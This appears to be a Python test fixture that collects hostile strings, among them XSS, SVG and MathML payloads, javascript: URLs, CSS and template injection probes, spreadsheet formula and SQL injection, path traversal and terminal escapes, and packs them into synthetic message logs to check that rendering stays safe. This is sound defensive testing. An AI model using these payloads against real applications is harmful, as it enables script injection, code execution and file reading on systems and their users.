"""Texts that try to execute something wherever they are shown: in HTML, SVG, CSS, templates, formulas and terminals.

If one of them runs as a script, it opens a dialog, sets the global variable ``CANARY``, or requests something from
``HOST``, which does not exist.
"""

from __future__ import annotations

from collections.abc import Iterator

import pandas as pd

CANARY = "viberkitCanary"
HOST = "viberkit.invalid"
_JS = f"window.{CANARY}=1;alert(1)"
_URL = f"http://{HOST}/x"

_SCRIPTS = (
    f"<script>{_JS}</script>",
    f"<SCRIPT>{_JS}</SCRIPT>",
    f"<script src={_URL}.js></script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<script type=module>import '{_URL}.js'</script>",
    f"</script><script>{_JS}</script>",
    f"</style><script>{_JS}</script>",
    f"</title><script>{_JS}</script>",
    f"</textarea><script>{_JS}</script>",
    f"</svg><script>{_JS}</script>",
    f"</text></svg><script>{_JS}</script>",
    f"</td></tr></table><script>{_JS}</script>",
    f"</caption></table><script>{_JS}</script>",
    f"</figcaption></figure><script>{_JS}</script>",
    f"--><script>{_JS}</script>",
    f"<!--><script>{_JS}</script>",
    f"--!><script>{_JS}</script>",
    f"]]><script>{_JS}</script>",
    f"<![CDATA[<script>{_JS}</script>]]>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<script\n>{_JS}</script\n>",
    f"<script/x>{_JS}</script/x>",
    f"<\x00script>{_JS}</script>",
    f"\ufeff<script>{_JS}</script>",
    f'<noscript><p title="</noscript><script>{_JS}</script>">',
    f"<template><script>{_JS}</script></template>",
    f"\"'><script>{_JS}</script>",
    f"<html><body onload={_JS}>",
)
_HANDLERS = (
    f"<img src=x onerror={_JS}>",
    f'<img src=x onerror="{_JS}">',
    f"<img src=x:x onerror='{_JS}'//",
    f"<IMG SRC=x ONERROR={_JS}>",
    f"<img/src=x/onerror={_JS}>",
    f"<img src=`x` onerror=`{_JS}`>",
    f"<img\tsrc=x\tonerror={_JS}>",
    f"<img srcset=x onerror={_JS}>",
    f"<image href=x onerror={_JS}>",
    f"<body onload={_JS}>",
    f"<body onpageshow={_JS}>",
    f"<input autofocus onfocus={_JS}>",
    f"<select autofocus onfocus={_JS}>",
    f"<textarea autofocus onfocus={_JS}>",
    f"<button autofocus onfocus={_JS}>",
    f"<div contenteditable autofocus onfocus={_JS}>",
    f"<details open ontoggle={_JS}>",
    f"<video src=x onerror={_JS}>",
    f"<video><source onerror={_JS}></video>",
    f"<audio src=x onerror={_JS}>",
    f"<marquee onstart={_JS}>",
    f"<iframe onload={_JS}></iframe>",
    f"<style onload={_JS}></style>",
    f"<link rel=stylesheet href={_URL}.css onerror={_JS}>",
    f"<object data=x onerror={_JS}></object>",
    f"<p style=animation-name:x onanimationstart={_JS}>",
    f"<x onclick={_JS} tabindex=0 autofocus onfocus={_JS}>x</x>",
    f'" onfocus="{_JS}" autofocus="',
    f"' onfocus='{_JS}' autofocus='",
    f'" onmouseover="{_JS}" x="',
    f"x onerror={_JS} src=x",
    f'"><img src=x onerror={_JS}>',
    f"'><img src=x onerror={_JS}>",
    f"`><img src=x onerror={_JS}>",
)
_SVG = (
    f"<svg onload={_JS}>",
    f"<svg/onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><script href={_URL}.js /></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={_JS}>",
    f'<svg><a xlink:href="javascript:{_JS}"><text y=20>x</text></a></svg>',
    f"<svg><image href={_URL}.png /></svg>",
    f'<svg><use href="{_URL}.svg#x"/></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_JS}/>#x"/></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{_JS}</script>"></iframe></foreignObject></svg>',
    f"<svg><style>@import '{_URL}.css';</style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{_JS}</script>]]></svg>",
    f"<svg><title></svg><img src=x onerror={_JS}></title>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>",
    f'<math href="javascript:{_JS}">x</math>',
    f'<math><maction actiontype=statusline xlink:href="javascript:{_JS}">x</maction></math>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_JS}>",
)
_URLS = (
    f"javascript:{_JS}",
    f"JaVaScRiPt:{_JS}",
    f"java\tscript:{_JS}",
    f"\x01javascript:{_JS}",
    f"javascript://%0a{_JS}",
    f"&#106;avascript:{_JS}",
    f"vbscript:msgbox(1)//{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f'<a href="javascript:{_JS}">x</a>',
    f"[x](javascript:{_JS})",
    f"![x]({_URL}.png)",
    f"<{_URL}>",
    f"<img src={_URL}.png>",
    f'<iframe src="javascript:parent.{_JS}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_JS}</script>"></iframe>',
    f'<embed src="javascript:{_JS}">',
    f'<object data="{_URL}.swf"></object>',
    f"<base href={_URL}/>",
    f'<meta http-equiv=refresh content="0;url={_URL}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{_JS}">',
    f"<form action={_URL}><button>x</button></form>",
    f'<form action="javascript:{_JS}"><input type=submit autofocus>',
    f"<link rel=prefetch href={_URL}>",
    f"<link rel=stylesheet href={_URL}.css>",
)
_CSS = (
    f"<style>@import url({_URL}.css);</style>",
    f"<style>*{{background:url({_URL}.png)}}</style>",
    "<style>*{display:none!important}</style>",
    f"</style><img src=x onerror={_JS}><style>",
    f"red;background:url({_URL}.png)",
    f"x{{}} *{{background:url('{_URL}.png')}}",
    f"expression({_JS})",
    f'<div style="position:fixed;inset:0;background:url({_URL}.png)">x</div>',
    f'" style="background:url({_URL}.png)',
    "*/ } body { display: none } /*",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% raw %}{% endraw %}",
    "{# comment #}",
    "}}{{",
    f"{{{{ '<script>{_JS}</script>'|safe }}}}",
    f"${{{_JS}}}",
    f"#{{{_JS}}}",
    f"<%= {_JS} %>",
    f"{{{{constructor.constructor('{_JS}')()}}}}",
    "{0.__class__}",
    "%(x)s %s %d",
)
_ENCODINGS = (
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_JS}",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&",
    "&nbsp",
    "&#x0;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "\xc0\xbcscript\xc0\xbealert(1)",
    "\ufffe\uffff\ufffd",
    "\u202e<tpircs/>)1(trela<tpircs>",
    "\u2066\u202eabc\u2069\u200f",
    "\u2028alert(1)\u2029",
    "a\u0301\u0300\u0302" * 40,
    "\x1b[31mred\x1b]0;title\x07",
    "\x00\x08\x0b\x7f\x85",
    "line\r\nSet-Cookie: x=1",
    "日本語 🙂 \U000e0041",
)
_FORMULAS = (
    r"$\frac{1}{2}$",
    r"$$\def\x{\x}\x$$",
    r"$\href{javascript:alert(1)}{x}$",
    r"\(\unicode{x}\)",
    "$unclosed",
    "$100 and $200",
    "$_{$^{$",
    r"\input{/etc/passwd}",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://viberkit.invalid","x")',
    "@SUM(1+1)",
    "' OR 1=1 --",
    "'; DROP TABLE messages; --",
    "../../etc/passwd",
    "x" * 3000,
    " ",
    "",
)

HOSTILE: tuple[str, ...] = (
    *_SCRIPTS, *_HANDLERS, *_SVG, *_URLS, *_CSS, *_TEMPLATES, *_ENCODINGS, *_FORMULAS
)  # fmt: skip


def hostile_logs(size: int = 20) -> Iterator[tuple[pd.DataFrame, dict[str, float]]]:
    """Logs in which these texts are campaigns, codes, rate types, countries, states, details and ids, and their prices.

    Each log has ``size`` of them, because charts and tables leave out what is too much.
    """
    begin = pd.Timestamp("2026-03-01T09:00:00Z")
    for first in range(0, len(HOSTILE), size):
        rows = []
        for number, text in enumerate(HOSTILE[first : first + size]):
            facts = dict.fromkeys(("campaign", "rate_type", "country", "content_type", "detail"), text)
            for outcome in ("delivered", "failed", text or "unknown"):
                at = begin + pd.Timedelta(minutes=number, milliseconds=217)
                common = {"message_id": f"{number} {outcome} {text}", "observed_until": begin + pd.Timedelta("1D")}
                code = text if outcome == "failed" else None
                rows.append({**common, **facts, "state": "accepted", "happened_at": at})
                rows.append(
                    {**common, **facts, "state": outcome, "happened_at": at + pd.Timedelta("3.141s"), "code": code}
                )
        yield pd.DataFrame(rows), dict.fromkeys([*HOSTILE[first : first + size], "sms"], 0.05)
